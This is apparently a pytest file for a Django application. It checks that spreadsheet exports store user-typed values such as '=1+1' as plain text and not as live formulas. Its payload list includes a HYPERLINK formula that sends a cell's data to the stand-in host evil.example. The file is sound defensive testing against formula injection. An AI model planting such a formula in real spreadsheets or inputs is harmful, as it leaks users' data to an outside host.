"""Every spreadsheet cell a user typed stays text: no export turns a typed "=…" into a live formula."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.factories import UserFactory
from thidua.core.exports import saved_as_text, workbook_bytes
from thidua.core.models import Notification
from thidua.core.services import log_action
from thidua.organizations.enums import Role

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A2,"Xem")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)"]


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_typed_formulas_are_written_as_the_text_typed():
    content = workbook_bytes([("Danh sách", ["Tên", "Số"], [[payload, 3] for payload in PAYLOADS])])
    assert "<f>" not in sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert [sheet.cell(row, 1).value for row in range(2, 2 + len(PAYLOADS))] == PAYLOADS
    assert {sheet.cell(row, 1).data_type for row in range(2, 2 + len(PAYLOADS))} == {"s"}
    assert sheet.cell(2, 2).value == 3  # numbers stay numbers


def test_a_workbook_built_elsewhere_is_neutralised_too():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    assert workbook.active["A1"].data_type == "f"
    content = saved_as_text(workbook)
    assert "<f>" not in sheet_xml(content)
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "=1+1"


@pytest.mark.django_db
def test_the_activity_log_and_notification_exports_keep_typed_text(login, make_user):
    admin = make_user(Role.ADMIN)
    log_action(admin, "test.typed", note=PAYLOADS[0])
    Notification.objects.create(recipient=admin, title=PAYLOADS[0])
    client = login(admin)
    for name in ("core:activity_log_export", "core:notifications_export"):
        response = client.get(reverse(name))
        assert response.status_code == 200
        content = b"".join(response.streaming_content) if response.streaming else response.content
        xml = sheet_xml(content)
        assert "<f>" not in xml
        assert "HYPERLINK" in xml


@pytest.mark.django_db
def test_nobody_else_sees_the_payload(login):
    Notification.objects.create(recipient=UserFactory(), title=PAYLOADS[0])
    outsider = UserFactory()
    content = login(outsider).get(reverse("core:notifications_export")).content
    assert "HYPERLINK" not in sheet_xml(content)
